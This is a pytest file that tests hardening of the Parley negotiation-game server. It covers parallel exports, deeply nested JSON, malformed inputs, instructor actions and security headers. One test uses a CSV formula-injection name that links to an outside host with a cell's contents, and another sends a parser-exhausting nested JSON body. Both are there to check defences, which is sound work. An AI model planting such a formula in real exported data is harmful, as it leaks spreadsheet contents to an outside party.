"""Odd input and heavy reads against the real (eventlet) server: every one gets an answer."""

from __future__ import annotations

import concurrent.futures
import io
import sqlite3
import subprocess
import sys
import zipfile

import requests

from tests.server.helpers import COUNTER, MESO, code_of, export, new_pair, ok
from tests.support import ROOT


def test_exports_fetched_all_at_once_all_answer_and_play_goes_on(module_server, players):
    """Eight CSV exports and two zips in parallel: each answers, and so does play meanwhile."""
    pair = new_pair(module_server, players, conditions=["meso"])
    ok(pair.seller.call("propose", {"packages": MESO}))
    paths = [f"/api/sessions/{pair.code}/export/{t}.csv" for t in ("negotiations", "offers")] * 2
    paths += [f"/api/sessions/{pair.code}/export/{t}.csv" for t in ("events", "participants")] * 2
    paths += [f"/instructor/api/sessions/{pair.code}/export.zip"] * 2
    with concurrent.futures.ThreadPoolExecutor(len(paths)) as pool:
        futures = [pool.submit(module_server.api, "GET", p) for p in paths]
        chat = pair.buyer.call("chat", {"text": "still here?"})
        answers = [f.result() for f in futures]
    ok(chat)
    assert [r.status_code for r in answers] == [200] * len(paths)
    z = zipfile.ZipFile(io.BytesIO(answers[-1].content))
    assert sorted(n.rsplit("/", 1)[1] for n in z.namelist() if n.endswith(".csv")) == [
        "events.csv",
        "negotiations.csv",
        "offers.csv",
        "participants.csv",
        "steps.csv",
    ]
    # and later exports still answer (a wedged lock would hang them)
    assert module_server.api("GET", paths[0]).status_code == 200


def test_json_nested_too_deeply_is_a_400_not_a_crash(module_server):
    code = module_server.create_session(scenario="test-supply")
    deep = "[" * 50_000 + "]" * 50_000
    headers = {"Content-Type": "application/json"}
    for path, key in (
        (f"/api/sessions/{code}/join", None),
        ("/api/sessions", "default"),
        ("/api/scenarios", "default"),
    ):
        r = module_server.api("POST", path, key=key, data=deep, headers=dict(headers))
        assert r.status_code == 400, (path, r.text)
        assert r.json()["errors"][0].startswith("body:")


def test_an_event_with_two_arguments_is_answered_bad_request(module_server, players):
    pair = new_pair(module_server, players)
    answer = pair.seller.client.call("chat", ("one", "two"), timeout=10)
    assert code_of(answer) == "bad_request"


def test_chat_with_an_unknown_field_is_refused(module_server, players):
    pair = new_pair(module_server, players)
    assert code_of(pair.seller.call("chat", {"text": "hi", "n": 1e30})) == "bad_request"
    assert pair.seller.neg["chat"] == []


def test_a_name_that_looks_like_a_formula_is_exported_as_text(module_server, players):
    code = module_server.create_session(scenario="test-supply")
    name = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
    module_server.join(code, name)
    rows = export(module_server, code, "participants")
    assert [r["name"] for r in rows] == ["'" + name]


def test_an_instructor_ending_a_negotiation_calls_time_on_it(module_server, players):
    pair = new_pair(module_server, players)
    ok(pair.seller.call("propose", {"packages": [COUNTER]}))
    nid = pair.seller.neg["id"]
    r = module_server.api("POST", f"/api/negotiations/{nid}/end")
    assert r.status_code == 200
    done = pair.buyer.wait(lambda s: s["phase"] == "done")
    outcome = done["negotiation"]["outcome"]
    assert outcome["reason"] == "instructor"  # PROTOCOL.md section 6
    assert outcome["by"] == "instructor"
    row = export(module_server, pair.code, "negotiations")[0]
    assert (row["status"], row["end_reason"], row["ended_by"]) == (
        "impasse",
        "instructor",
        "instructor",
    )
    again = module_server.api("POST", f"/api/negotiations/{nid}/end")
    assert again.status_code == 409


def test_export_refuses_a_database_that_is_not_parleys_and_leaves_it_alone(tmp_path):
    db = tmp_path / "other.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE notes (text)")
    conn.commit()
    conn.close()
    before = db.read_bytes()
    p = subprocess.run(
        [sys.executable, "run.py", "export", "--db", str(db), "--out", str(tmp_path / "out")],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert p.returncode == 1
    assert "not a Parley database" in p.stderr
    assert db.read_bytes() == before
    assert not (tmp_path / "other.db-wal").exists()


def test_student_pages_carry_a_strict_content_security_policy(module_server):
    for path in ("/", "/join/ABCDEF", "/play"):
        r = requests.get(module_server.url + path, timeout=10)
        csp = r.headers.get("Content-Security-Policy", "")
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp, path
        assert r.headers.get("X-Content-Type-Options") == "nosniff"
